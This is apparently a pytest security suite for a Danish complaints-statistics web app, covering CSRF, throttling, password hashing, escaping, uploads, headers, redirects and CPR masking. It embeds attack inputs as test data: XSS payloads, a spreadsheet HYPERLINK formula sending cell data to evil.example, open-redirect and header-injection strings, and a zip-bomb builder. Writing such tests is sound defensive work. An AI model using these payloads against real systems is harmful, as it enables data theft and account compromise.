"""The case area's defences, over HTTP with FastAPI's test client: CSRF on every form, login
throttling, sessions and passwords kept only as hashes, escaping of whatever a register holds,
spreadsheet formulas neutralised in downloads, upload limits and file types, security headers,
no open redirect after login, and no CPR number in any answer.

Runs on a copy of the demo database (Allerød's synthetic register); the login tests also on
PostgreSQL. Expected values come from the database at test time.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import subprocess
import zipfile
from urllib.parse import quote, urlsplit

import docx
import pytest
from sqlalchemy import text

from klagestat import api
from klagestat.web.app import create_app

from conftest import _cli_env, cli_command, copy_db, db_count, db_rows
from web_helpers import (
    CPR_SHAPED,
    CSRF_COOKIE,
    PASSWORD,
    SECRET,
    SESSION_COOKIE,
    add_user,
    case,
    case_ids_on,
    client_for,
    confirm_token,
    cookie_headers,
    csrf_token,
    csv_rows,
    log_in,
    logged_in,
    post,
    register_bytes,
    table,
    text_of,
    tree,
    upload,
    xlsx_rows,
)

READER = "laeser@alleroed.dk"
ANALYST = "analytiker@alleroed.dk"
ADMIN = "admin@alleroed.dk"
LEJRE_ANALYST = "analytiker@lejre.dk"


@pytest.fixture(autouse=True)
def own_secret(monkeypatch):
    monkeypatch.setenv("KLAGESTAT_SECRET", SECRET)


@pytest.fixture(scope="module")
def site(demo_db, tmp_path_factory):
    folder = tmp_path_factory.mktemp("web_security")
    db = copy_db(demo_db, folder / "klagestat.db")
    for email, municipality, role in ((READER, "Allerød", "reader"), (ANALYST, "Allerød", "analyst"),
                                      (ADMIN, "Allerød", "admin"), (LEJRE_ANALYST, "Lejre", "analyst")):
        add_user(db, email, municipality, role)
    app = create_app(str(db))
    return type("Site", (), {"db": db, "app": app, "folder": folder})


def count(site, sql: str, *args) -> int:
    return db_count(site.db, sql, *args)


def case_tables(site) -> dict[str, int]:
    return {t: count(site, f"SELECT COUNT(*) FROM {t}") for t in ("case_record", "case_import", "case_reject",
                                                                   "case_history")}


def learning_of(site, case_id: str):
    return db_rows(site.db, "SELECT version, learning FROM case_record WHERE municipality_code = '201' AND case_id = ?",
                   case_id)


# ---- CSRF --------------------------------------------------------------------------------------------

def _csrf_variant(client, variant: str, data: dict) -> dict:
    """The form as an attacker's page would send it: without the token, with a wrong one, or with
    the right token but from a browser without the cookie (cookie removed)."""
    data = dict(data)
    if variant == "missing":
        data.pop("csrf_token", None)
    elif variant == "wrong":
        data["csrf_token"] = "et-gaet-sikkerhedstegn-" + "x" * 20
    elif variant == "no cookie":
        if client.cookies.get(SESSION_COOKIE):
            # Logged in, the token is the session's: the browser's CSRF cookie (which a page on a
            # subdomain could have set) is not enough.
            data["csrf_token"] = client.cookies.get(CSRF_COOKIE)
        else:
            data["csrf_token"] = csrf_token(client)
            client.cookies.delete(CSRF_COOKIE)
    elif variant == "another browser's token":
        data["csrf_token"] = csrf_token(client_for(client.app))
    return data


VARIANTS = ["missing", "wrong", "no cookie", "another browser's token"]


@pytest.mark.parametrize("variant", VARIANTS)
def test_login_without_the_csrf_token_is_refused_and_logs_no_one_in(site, variant):
    client = client_for(site.app, address="10.2.0.1")
    sessions = count(site, "SELECT COUNT(*) FROM web_session")
    data = _csrf_variant(client, variant, {"email": READER, "password": PASSWORD, "csrf_token": csrf_token(client)})
    response = client.post("/login", data=data)
    assert response.status_code == 403 and "CSRF" in text_of(response)
    assert not cookie_headers(response, SESSION_COOKIE)
    assert count(site, "SELECT COUNT(*) FROM web_session") == sessions
    assert client.get("/sager").status_code == 303


@pytest.mark.parametrize("variant", VARIANTS)
def test_logout_without_the_csrf_token_is_refused_and_the_session_goes_on(site, variant):
    client = logged_in(site.app, READER)
    response = client.post("/logout", data=_csrf_variant(client, variant, {}))
    assert response.status_code == 403
    assert client.get("/sager").status_code == 200


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_learning_note_without_the_csrf_token_is_refused_and_not_saved(site, variant):
    client = logged_in(site.app, ADMIN)
    before = learning_of(site, "ALL-00030")
    response = client.post("/sager/laering", data=_csrf_variant(
        client, variant, {"case_id": "ALL-00030", "learning": "Skrevet af en anden side", "csrf_token": csrf_token(client)}))
    assert response.status_code == 403
    assert learning_of(site, "ALL-00030") == before
    # The same form with the token is accepted (so the refusal above was the missing token's).
    ok = post(logged_in(site.app, ADMIN), "/sager/laering", {"case_id": "ALL-00030", "learning": before[0][1] or ""})
    assert ok.status_code == 303


@pytest.mark.parametrize("variant", VARIANTS)
def test_an_upload_without_the_csrf_token_is_refused_and_not_read(site, variant):
    client = logged_in(site.app, ANALYST)
    before = case_tables(site)
    previews = count(site, "SELECT COUNT(*) FROM audit_event WHERE action = 'forhåndsvis import'")
    data = _csrf_variant(client, variant, {"csrf_token": csrf_token(client)})
    response = client.post("/sager/import", data=data,
                           files={"file": ("csrf.csv", register_bytes([case("ALL-CSRF-1")]), "text/csv")})
    assert response.status_code == 403
    assert not tree(response).xpath('//form[@action="/sager/import/bekraeft"]')
    assert case_tables(site) == before
    assert count(site, "SELECT COUNT(*) FROM audit_event WHERE action = 'forhåndsvis import'") == previews


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_confirmation_without_the_csrf_token_is_refused_and_imports_nothing(site, variant):
    client = logged_in(site.app, ANALYST)
    case_id = f"ALL-CSRF-{VARIANTS.index(variant) + 10}"
    preview = upload(client, register_bytes([case(case_id)]), f"{case_id}.csv")
    token = confirm_token(preview)
    before = case_tables(site)
    response = client.post("/sager/import/bekraeft", data=_csrf_variant(client, variant, {
        "token": token, "csrf_token": csrf_token(client)}))
    assert response.status_code == 403
    assert case_tables(site) == before and count(site, "SELECT COUNT(*) FROM case_record WHERE case_id = ?", case_id) == 0
    # The preview itself was good: with the token it is imported.
    done = post(client, "/sager/import/bekraeft", {"token": token})
    assert done.status_code == 200 and count(site, "SELECT COUNT(*) FROM case_record WHERE case_id = ?", case_id) == 1


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_new_user_without_the_csrf_token_is_refused_and_not_made(site, variant):
    client = logged_in(site.app, ADMIN)
    email = f"csrf-{VARIANTS.index(variant)}@alleroed.dk"
    response = client.post("/sager/brugere", data=_csrf_variant(client, variant, {
        "email": email, "role": "admin", "password": PASSWORD, "csrf_token": csrf_token(client)}))
    assert response.status_code == 403
    assert count(site, "SELECT COUNT(*) FROM user_account WHERE email = ?", email) == 0


def test_the_csrf_token_is_renewed_at_login(site):
    client = client_for(site.app)
    before = csrf_token(client)
    assert log_in(client, READER).status_code == 303
    after = client.cookies.get(CSRF_COOKIE)
    assert after and after != before
    response = client.post("/logout", data={"csrf_token": before})
    assert response.status_code == 403
    assert client.get("/sager").status_code == 200


# ---- logging in: throttling, sessions, passwords --------------------------------------------------

def _throttle_app(database):
    engine = api.open_database(database)
    try:
        for email in ("a@alleroed.dk", "b@alleroed.dk"):
            api.add_user(engine, email, "Allerød", "reader", PASSWORD)
    finally:
        engine.dispose()
    return create_app(database)


def test_five_wrong_passwords_for_one_email_block_it_but_not_another(database):
    app = _throttle_app(database)
    attacker = client_for(app, address="10.3.0.1")
    for n in range(5):
        email = "a@alleroed.dk" if n % 2 else "A@Alleroed.DK"  # one e-mail, however it is written
        response = log_in(attacker, email, f"forkert-{n}-adgangskode")
        assert response.status_code == 401, (n, response.status_code, response.text[:500])
    blocked = log_in(attacker, "a@alleroed.dk")
    assert blocked.status_code == 429 and "For mange mislykkede forsøg" in text_of(blocked)
    assert not cookie_headers(blocked, SESSION_COOKIE)
    # The owner, from another address, is blocked too (the e-mail is what is throttled) ...
    assert log_in(client_for(app, address="10.3.0.2"), "a@alleroed.dk").status_code == 429
    # ... but another user, even from the attacker's address, is not.
    assert log_in(client_for(app, address="10.3.0.1"), "b@alleroed.dk").status_code == 303
    # When the failures are older than the window (15 minutes), the right password works again.
    engine = api.open_database(database)
    try:
        with engine.begin() as conn:
            conn.execute(text("UPDATE login_failure SET at = :at"),
                         {"at": dt.datetime.now().replace(microsecond=0) - dt.timedelta(minutes=16)})
    finally:
        engine.dispose()
    assert log_in(client_for(app, address="10.3.0.2"), "a@alleroed.dk").status_code == 303


def test_twenty_failures_from_one_address_block_that_address(database):
    app = _throttle_app(database)
    for n in range(20):
        response = log_in(client_for(app, address="10.4.0.1"), f"gaet-{n}@alleroed.dk", "forkert-adgangskode")
        assert response.status_code == 401, (n, response.status_code)
    assert log_in(client_for(app, address="10.4.0.1"), "b@alleroed.dk").status_code == 429
    assert log_in(client_for(app, address="10.4.0.2"), "b@alleroed.dk").status_code == 303


def test_the_session_token_is_stored_only_as_a_hash(site):
    client = logged_in(site.app, READER)
    token = client.cookies.get(SESSION_COOKIE)
    assert token and len(token) >= 32
    rows = db_rows(site.db, "SELECT * FROM web_session")
    assert rows and not any(token in str(value) for row in rows for value in row)


def test_an_expired_session_is_no_login(site):
    client = logged_in(site.app, READER)
    assert client.get("/sager").status_code == 200
    engine = api.open_database(str(site.db))
    try:
        with engine.begin() as conn:
            conn.execute(text("UPDATE web_session SET expires_at = :at"),
                         {"at": dt.datetime.now().replace(microsecond=0) - dt.timedelta(minutes=1)})
    finally:
        engine.dispose()
    assert client.get("/sager").status_code == 303


def test_a_new_password_ends_the_user_s_sessions(site):
    add_user(site.db, "skift@alleroed.dk", "Allerød", "reader")
    user = logged_in(site.app, "skift@alleroed.dk")
    assert user.get("/sager").status_code == 200
    response = post(logged_in(site.app, ADMIN), "/sager/brugere",
                    {"email": "skift@alleroed.dk", "role": "reader", "password": "en-helt-ny-adgangskode"})
    assert response.status_code == 303
    assert user.get("/sager").status_code == 303
    assert log_in(client_for(site.app, address="10.5.0.1"), "skift@alleroed.dk", PASSWORD).status_code == 401
    assert log_in(client_for(site.app, address="10.5.0.1"), "skift@alleroed.dk", "en-helt-ny-adgangskode").status_code == 303


def test_passwords_are_stored_as_argon2id_hashes_never_as_text(site):
    post(logged_in(site.app, ADMIN), "/sager/brugere",
         {"email": "webbruger@alleroed.dk", "role": "reader", "password": "web-adgangskode-77"})
    result = subprocess.run(cli_command("users", "add", "--email", "kommando@alleroed.dk", "--municipality", "Allerød",
                                        "--role", "reader", "--password-stdin", db=site.db),
                            input=b"kommando-adgangskode-88\n", capture_output=True, env=_cli_env(), timeout=120, check=False)
    assert result.returncode == 0, result.stderr.decode()
    log_in(client_for(site.app, address="10.6.0.1"), READER, "et-forkert-forsoeg-99")  # a failed login is kept too
    rows = db_rows(site.db, "SELECT email, password_hash FROM user_account")
    assert {"webbruger@alleroed.dk", "kommando@alleroed.dk", READER} <= {e for e, _ in rows}
    assert all(h.startswith("$argon2id$") for _, h in rows), rows
    for table_name in ("user_account", "web_session", "login_failure", "audit_event"):
        everything = " ".join(str(v) for row in db_rows(site.db, f"SELECT * FROM {table_name}") for v in row)
        for password in (PASSWORD, "web-adgangskode-77", "kommando-adgangskode-88", "et-forkert-forsoeg-99"):
            assert password not in everything, (table_name, password)
    log_in(client_for(site.app, address="10.6.0.1"), READER)  # clears the failure


# ---- escaping -----------------------------------------------------------------------------------------

XSS_ID = "<img src=x onerror=alert(1)>"
XSS_ID_2 = '"><script>alert(4)</script>'
XSS_AREA = "<script>alert(1)</script>"
XSS_ROWS = [
    case(XSS_ID, omraade=XSS_AREA, beskrivelse="<script>alert(2)</script>", laering="<b onmouseover=alert(3)>x</b>",
         udfald="hjemvist", aarsag="begrundelse"),
    case(XSS_ID_2, omraade="Social og Sundhed", beskrivelse="<svg onload=alert(9)>"),
    case("ALL-XSS-AFVIST", udfald="<script>alert(5)</script>"),
]
RAW_MARKUP = re.compile(r"<script>alert|<img src=x|<svg onload|<b onmouseover", re.IGNORECASE)


def assert_no_markup_from_data(response, where: str) -> None:
    """No tag or event handler from the data: only the page's own script, no on* attribute."""
    assert not RAW_MARKUP.search(response.text), f"{where}: {RAW_MARKUP.search(response.text).group(0)!r} unescaped"
    page = tree(response)
    scripts = page.xpath("//script")
    assert all(s.get("src", "").startswith("/static/") and not (s.text or "").strip() for s in scripts), where
    handlers = [(e.tag, a) for e in page.iter() if isinstance(e.tag, str) for a in e.attrib if a.lower().startswith("on")]
    assert not handlers, f"{where}: event handler attributes {handlers}"
    assert not page.xpath("//img[@src='x'] | //svg"), where


@pytest.fixture(scope="module")
def xss_register(site):
    client = logged_in(site.app, ANALYST)
    preview = upload(client, register_bytes(XSS_ROWS), "<img src=x onerror=alert(6)>.csv")
    assert preview.status_code == 200, text_of(preview)[:2000]
    done = post(client, "/sager/import/bekraeft", {"token": confirm_token(preview)})
    assert done.status_code == 200, text_of(done)[:2000]
    return preview, done


def test_markup_in_a_register_is_shown_as_text_on_every_page(site, xss_register):
    preview, done = xss_register
    assert count(site, "SELECT COUNT(*) FROM case_record WHERE case_id IN (?, ?)", XSS_ID, XSS_ID_2) == 2
    analyst = logged_in(site.app, ANALYST)
    admin = logged_in(site.app, ADMIN)
    # The rejected row's value is shown, as text.
    _, rejected = table(preview, '//table[@id="afviste"]')
    assert ["udfald", "<script>alert(5)</script>"] in [r[1:3] for r in rejected]
    listing = analyst.get("/sager", params={"area": XSS_AREA})
    assert case_ids_on(listing) == [XSS_ID]
    # The list links to the case with the id encoded, and the link works.
    href = tree(listing).xpath("//table[contains(@class,'sortable')]/tbody/tr/th/a/@href")[0]
    assert href == "/sager/sag/" + quote(XSS_ID, safe="/")
    case_page = analyst.get(href)
    assert case_page.status_code == 200
    shown = text_of(case_page)
    assert f"Sag {XSS_ID}" in shown and XSS_AREA in shown and "<script>alert(2)</script>" in shown
    assert "<b onmouseover=alert(3)>x</b>" in shown
    # An edited learning note with markup, and the history that keeps the old one.
    assert post(analyst, "/sager/laering", {"case_id": XSS_ID, "learning": "<script>alert(8)</script>"}).status_code == 303
    pages = {
        "preview": preview, "import result": done, "list": analyst.get("/sager"), "filtered list": listing,
        "case": analyst.get(href), "case 2": analyst.get("/sager/sag/" + quote(XSS_ID_2, safe="/")),
        "analyses": analyst.get("/sager/analyser", params={"year": "2024"}),
        "audit log": admin.get("/sager/log"),
        "html report": analyst.get("/sager/klagerapport/hent", params={"year": "2024", "format": "html"}),
        "missing case": analyst.get("/sager/sag/<script>alert(7)</script>"),
        "bad outcome": analyst.get("/sager", params={"outcome": "<script>alert(1)</script>"}),
        "bad login": client_for(site.app, address="10.7.0.1").post(
            "/login", data={"email": '"><script>alert(1)</script>', "password": "x" * 10,
                            "csrf_token": csrf_token(client_for(site.app))}),
        "users": admin.get("/sager/brugere"),
    }
    assert "<script>alert(8)</script>" in text_of(pages["case"])
    assert XSS_ID in text_of(pages["audit log"])
    for where, response in pages.items():
        assert_no_markup_from_data(response, where)
    assert pages["html report"].status_code == 200 and XSS_ID in " ".join(tree(pages["html report"]).itertext())


def test_a_login_form_with_markup_in_the_email_is_escaped(site):
    client = client_for(site.app, address="10.7.0.2")
    email = '"><script>alert(1)</script>@x.dk'
    response = client.post("/login", data={"email": email, "password": "x" * 12, "csrf_token": csrf_token(client)})
    assert response.status_code in (401, 422)
    assert_no_markup_from_data(response, "login")
    values = tree(response).xpath('//input[@name="email"]/@value')
    assert values in ([email], []), values


# ---- downloads: no formulas -----------------------------------------------------------------------------

FORMULAS = {
    "ALL-FORMEL-1": '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
    "ALL-FORMEL-2": "+1+2",
    "ALL-FORMEL-3": "-3+4",
    "ALL-FORMEL-4": "@SUM(1;2)",
}
FORMULA_ID = "=1+1"


@pytest.fixture(scope="module")
def formula_register(site):
    client = logged_in(site.app, ANALYST)
    rows = [case(i, omraade=area, udfald="ændret", aarsag="materiel") for i, area in FORMULAS.items()]
    rows.append(case(FORMULA_ID, omraade="Social og Sundhed"))
    preview = upload(client, register_bytes(rows), "formler.csv")
    done = post(client, "/sager/import/bekraeft", {"token": confirm_token(preview)})
    assert done.status_code == 200, text_of(done)[:2000]
    assert count(site, "SELECT COUNT(*) FROM case_record WHERE case_id LIKE 'ALL-FORMEL-%' OR case_id = ?",
                 FORMULA_ID) == len(rows)


def test_csv_download_neutralises_cells_a_spreadsheet_would_run(site, formula_register):
    response = logged_in(site.app, READER).get("/sager/eksport.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = csv_rows(response)
    by_id = {r[0]: r for r in rows[1:]}
    for case_id, area in FORMULAS.items():
        assert by_id[case_id][1] == "'" + area  # shown as the text it is, not run
    assert "'" + FORMULA_ID in by_id and FORMULA_ID not in by_id
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(,\d+)?", cell), row


def test_xlsx_download_holds_the_formulas_as_text(site, formula_register):
    from openpyxl import load_workbook

    response = logged_in(site.app, READER).get("/sager/eksport.xlsx", params={"year": "2024"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    rows = xlsx_rows(response)
    by_id = {r[0]: r for r in rows[1:]}
    for case_id, area in FORMULAS.items():
        assert by_id[case_id][1] == "'" + area
    assert "'" + FORMULA_ID in by_id
    assert all(not (isinstance(v, str) and v.startswith(("=", "+", "-", "@"))) for r in rows for v in r)


def test_a_filter_on_a_formula_area_works_and_stays_neutral(site, formula_register):
    area = FORMULAS["ALL-FORMEL-1"]
    client = logged_in(site.app, READER)
    assert case_ids_on(client.get("/sager", params={"area": area})) == ["ALL-FORMEL-1"]
    rows = csv_rows(client.get("/sager/eksport.csv", params={"area": area}))
    assert [r[:2] for r in rows[1:]] == [["ALL-FORMEL-1", "'" + area]]


# ---- uploads: size and kind -----------------------------------------------------------------------------

def _refused_upload(site, response, status: int, says: str) -> None:
    assert response.status_code == status, f"{response.status_code}: {text_of(response)[:1000]}"
    assert says in text_of(response), text_of(response)[:1000]
    assert not tree(response).xpath('//form[@action="/sager/import/bekraeft"]')


def big_register(size: int) -> bytes:
    """A valid register of about `size` bytes (a little more, never less)."""
    row = len(register_bytes([case("ALL-STOR-000000", beskrivelse="x" * 200)])) - len(register_bytes([]))
    n = -(-(size - len(register_bytes([]))) // row)
    content = register_bytes([case(f"ALL-STOR-{k:06d}", beskrivelse="x" * 200) for k in range(n)])
    assert size <= len(content) < size + 2 * row
    return content


def test_an_upload_larger_than_the_limit_is_refused_with_413_before_it_is_read(site, monkeypatch):
    monkeypatch.setenv("KLAGESTAT_MAX_IMPORT_MB", "0.1")  # 100 KB; the form may add 64 KB
    before = case_tables(site)
    response = upload(logged_in(site.app, ANALYST), big_register(400_000), "stor.csv")
    _refused_upload(site, response, 413, "Filen er for stor")
    assert "KLAGESTAT_MAX_IMPORT_MB" in text_of(response)
    assert case_tables(site) == before


def test_an_upload_without_a_length_is_counted_as_it_arrives(site, monkeypatch):
    monkeypatch.setenv("KLAGESTAT_MAX_IMPORT_MB", "0.1")
    client = logged_in(site.app, ANALYST)
    boundary = "klagestat-graense-1234"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{csrf_token(client)}\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"stor.csv\"\r\n"
            "Content-Type: text/csv\r\n\r\n").encode() + big_register(400_000) + f"\r\n--{boundary}--\r\n".encode()

    def chunks():
        for i in range(0, len(body), 32 * 1024):
            yield body[i:i + 32 * 1024]

    before = case_tables(site)
    response = client.post("/sager/import", content=chunks(),
                           headers={"content-type": f"multipart/form-data; boundary={boundary}"})
    _refused_upload(site, response, 413, "Filen er for stor")
    assert case_tables(site) == before


def test_a_file_over_the_import_limit_but_within_the_form_room_is_refused_by_the_importer(site, monkeypatch):
    monkeypatch.setenv("KLAGESTAT_MAX_IMPORT_MB", "0.1")
    before = case_tables(site)
    response = upload(logged_in(site.app, ANALYST), big_register(130_000), "lidt-for-stor.csv")
    _refused_upload(site, response, 422, "mere end grænsen")
    assert case_tables(site) == before


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)
EXE = b"MZ\x90\x00" + bytes(500)


@pytest.mark.parametrize("name, content, says", [
    ("kort.png", PNG, "Filtypen '.png' kendes ikke"),
    ("program.exe", EXE, "Filtypen '.exe' kendes ikke"),
    ("register.xlsx", PNG, "ikke en Excel-projektmappe"),
    ("register", b"sags_id\nK-1\n", "Filtypen '(ingen)' kendes ikke"),
    ("tom.csv", b"", "tom"),
])
def test_a_file_that_is_no_register_is_refused_with_a_danish_message(site, name, content, says):
    before = case_tables(site)
    response = upload(logged_in(site.app, ANALYST), content, name, media_type="application/octet-stream")
    _refused_upload(site, response, 422, says)
    assert "Intet er importeret" in text_of(response)
    assert case_tables(site) == before


def zip_bomb(unpacked: int) -> bytes:
    """A small .xlsx-looking zip whose sheet unpacks to `unpacked` bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        archive.writestr("xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * unpacked + b"</worksheet>")
    return out.getvalue()


def test_a_zip_bomb_dressed_as_a_workbook_is_refused_unopened(site, monkeypatch):
    monkeypatch.setenv("KLAGESTAT_MAX_IMPORT_MB", "1")
    bomb = zip_bomb(50 * 1024 * 1024)
    assert len(bomb) < 200_000
    before = case_tables(site)
    response = upload(logged_in(site.app, ANALYST), bomb, "register.xlsx",
                      media_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    _refused_upload(site, response, 422, "Projektmappen fylder udpakket")
    assert case_tables(site) == before


# ---- security headers -------------------------------------------------------------------------------------

def _assert_security_headers(response, where: str) -> None:
    csp = response.headers.get("content-security-policy", "")
    directives = {d.strip().split(" ", 1)[0]: d.strip() for d in csp.split(";") if d.strip()}
    assert directives.get("script-src") == "script-src 'self'", f"{where}: {csp!r}"
    assert "'none'" in directives.get("frame-ancestors", ""), f"{where}: {csp!r}"
    assert response.headers.get("x-frame-options", "").upper() == "DENY", where
    assert response.headers.get("x-content-type-options") == "nosniff", where


@pytest.mark.parametrize("who, path, status", [
    (None, "/login", 200), (READER, "/sager", 200), (READER, "/sager/sag/ALL-00001", 200),
    (READER, "/sager/sag/findes-ikke", 404), (READER, "/sager/import", 403), (ADMIN, "/sager/log", 200),
    (READER, "/sager/analyser?year=2024", 200), (READER, "/sager/eksport.csv", 200),
    (READER, "/sager/klagerapport/hent?year=2024&format=html", 200), (None, "/", 200),
])
def test_every_page_carries_the_security_headers(site, who, path, status):
    client = logged_in(site.app, who) if who else client_for(site.app)
    response = client.get(path)
    assert response.status_code == status
    _assert_security_headers(response, path)
    if path.startswith("/sager"):
        assert response.headers.get("cache-control") == "no-store"
    if response.headers["content-type"].startswith("text/html") and "klagerapport" not in path:
        page = tree(response)
        for url in page.xpath("//script/@src | //link/@href | //img/@src"):
            assert urlsplit(url).netloc == "" and not url.startswith("//"), f"{path} loads {url} from elsewhere"


def test_the_refusal_of_a_too_large_upload_carries_the_security_headers(site, monkeypatch):
    monkeypatch.setenv("KLAGESTAT_MAX_IMPORT_MB", "0.1")
    response = upload(logged_in(site.app, ANALYST), big_register(400_000), "stor.csv")
    assert response.status_code == 413
    _assert_security_headers(response, "413")


def test_the_refusal_of_a_form_without_csrf_carries_the_security_headers(site):
    response = client_for(site.app).post("/login", data={"email": READER, "password": PASSWORD})
    assert response.status_code == 403
    _assert_security_headers(response, "403")


# ---- no open redirect -------------------------------------------------------------------------------------

EVIL_NEXT = ["https://evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example",
             "https:evil.example", "javascript:alert(1)", "/sager@evil.example", "//evil.example/sager",
             " //evil.example", "/%2F/evil.example", "/sager/\r\nLocation: https://evil.example"]


def _same_site(location: str) -> bool:
    parts = urlsplit(location)
    return (not parts.scheme and not parts.netloc and location.startswith("/") and not location.startswith("//")
            and "\\" not in location and "\r" not in location and "\n" not in location)


@pytest.mark.parametrize("target", EVIL_NEXT)
def test_login_never_sends_the_browser_to_another_site(site, target):
    client = client_for(site.app)
    form = client.get("/login", params={"next": target})
    assert form.status_code == 200
    hidden = tree(form).xpath('//form[@action="/login"]//input[@name="next"]/@value')
    assert all(_same_site(h) for h in hidden), hidden
    response = log_in(client, READER, next=target)
    assert response.status_code == 303
    location = response.headers["location"]
    assert _same_site(location), location
    assert location.startswith("/sager"), location
    # Logged in already, the login page sends one on the same way.
    again = client.get("/login", params={"next": target})
    assert again.status_code == 303 and _same_site(again.headers["location"]), again.headers["location"]


def test_logout_sends_the_browser_home(site):
    client = logged_in(site.app, READER)
    response = post(client, "/logout", {"next": "https://evil.example"})
    assert response.status_code == 303 and _same_site(response.headers["location"])


# ---- CPR numbers never leave the database ------------------------------------------------------------------

CPRS = ("010190-1234", "2512851234", "311299-4321", "050505 1234")
CPR_ROWS = [
    case("ALL-CPR-1", cpr=CPRS[0], udfald="hjemvist", aarsag="oplysningsgrundlag",
         beskrivelse=f"Borgeren ({CPRS[1]}) klagede over afslag", laering=f"Husk CPR {CPRS[2]} i journalen"),
    case("ALL-CPR-2", cpr=CPRS[1], udfald="ændret", aarsag="materiel", omraade=f"Social og Sundhed {CPRS[3]}",
         beskrivelse=f"Ægtefælle {CPRS[3]} og barn {CPRS[0].replace('-', '')}"),
    case("ALL-CPR-3", cpr=CPRS[2], udfald="stadfæstet", beskrivelse="Ingen tal her", laering=f"CPR {CPRS[0]}"),
    case("ALL-CPR-4", cpr=CPRS[0], udfald="vundet", beskrivelse=f"Afvist række med {CPRS[1]}"),  # rejected: outcome
    case("ALL-CPR-5", cpr="321399-1234", udfald="hjemvist"),  # rejected: no such date, but CPR-shaped
    case(CPRS[2], udfald="hjemvist"),  # rejected: a CPR number as case id
    case("ALL-CPR-6", cpr=CPRS[0], udfald="", instans_afgoerelsesdato="", beskrivelse=f"Verserer, {CPRS[2]}"),
]


def test_no_cpr_number_reaches_any_answer_of_the_case_area(site):
    analyst = logged_in(site.app, ANALYST)
    preview = upload(analyst, register_bytes(CPR_ROWS), "cpr-register.csv")
    assert preview.status_code == 200, text_of(preview)[:2000]
    _, rejected = table(preview, '//table[@id="afviste"]')
    assert len({r[0] for r in rejected}) == 3, rejected  # the three bad rows, each with its reason
    done = post(analyst, "/sager/import/bekraeft", {"token": confirm_token(preview)})
    assert done.status_code == 200
    imported = {r[0] for r in db_rows(site.db, "SELECT case_id FROM case_record WHERE case_id LIKE 'ALL-CPR-%'")}
    assert imported == {"ALL-CPR-1", "ALL-CPR-2", "ALL-CPR-3", "ALL-CPR-6"}
    assert post(analyst, "/sager/laering", {"case_id": "ALL-CPR-3", "learning": f"Ny note om {CPRS[1]}"}).status_code == 303

    admin = logged_in(site.app, ADMIN)
    answers = {"preview": preview, "import result": done}
    answers["list"] = analyst.get("/sager")
    answers["pending"] = analyst.get("/sager", params={"pending": "true"})
    for case_id in sorted(imported):
        answers[case_id] = analyst.get(f"/sager/sag/{case_id}")
    answers["analyses"] = analyst.get("/sager/analyser", params={"year": "2024"})
    answers["log"] = admin.get("/sager/log")
    answers["users"] = admin.get("/sager/brugere")
    for public in ("false", "true"):
        answers[f"html report {public}"] = analyst.get("/sager/klagerapport/hent",
                                                        params={"year": "2024", "format": "html", "public": public})
    texts = {name: r.text for name, r in answers.items()}
    texts["csv"] = analyst.get("/sager/eksport.csv").content.decode("utf-8-sig")
    texts["xlsx"] = "\n".join(str(v) for row in xlsx_rows(analyst.get("/sager/eksport.xlsx")) for v in row)
    for public in ("false", "true"):
        word = analyst.get("/sager/klagerapport/hent", params={"year": "2024", "format": "docx", "public": public})
        document = docx.Document(io.BytesIO(word.content))
        texts[f"docx report {public}"] = "\n".join([p.text for p in document.paragraphs] + [
            c.text for t in document.tables for row in t.rows for c in row.cells])
    for name, body in texts.items():
        found = CPR_SHAPED.search(body)
        assert found is None, f"{name} shows a CPR number: ...{body[max(0, found.start() - 80):found.end() + 80]}..."
    # The texts are there, masked: the pages were not just empty.
    assert "[CPR-nr. fjernet]" in text_of(answers["ALL-CPR-1"]) and "klagede over afslag" in text_of(answers["ALL-CPR-1"])
    assert "Ny note om [CPR-nr. fjernet]" in text_of(answers["ALL-CPR-3"])
    assert "ALL-CPR-1" in texts["csv"] and "ALL-CPR-2" in texts["docx report false"]
    # And in the database: no CPR number in any text of these cases, their history or the rejects.
    stored = db_rows(site.db, "SELECT * FROM case_record WHERE case_id LIKE 'ALL-CPR-%'") + \
        db_rows(site.db, "SELECT * FROM case_history WHERE case_id LIKE 'ALL-CPR-%'") + \
        db_rows(site.db, "SELECT * FROM case_reject WHERE import_id = (SELECT MAX(id) FROM case_import)")
    for row in stored:
        for value in row:
            assert not (isinstance(value, str) and CPR_SHAPED.search(value)), row
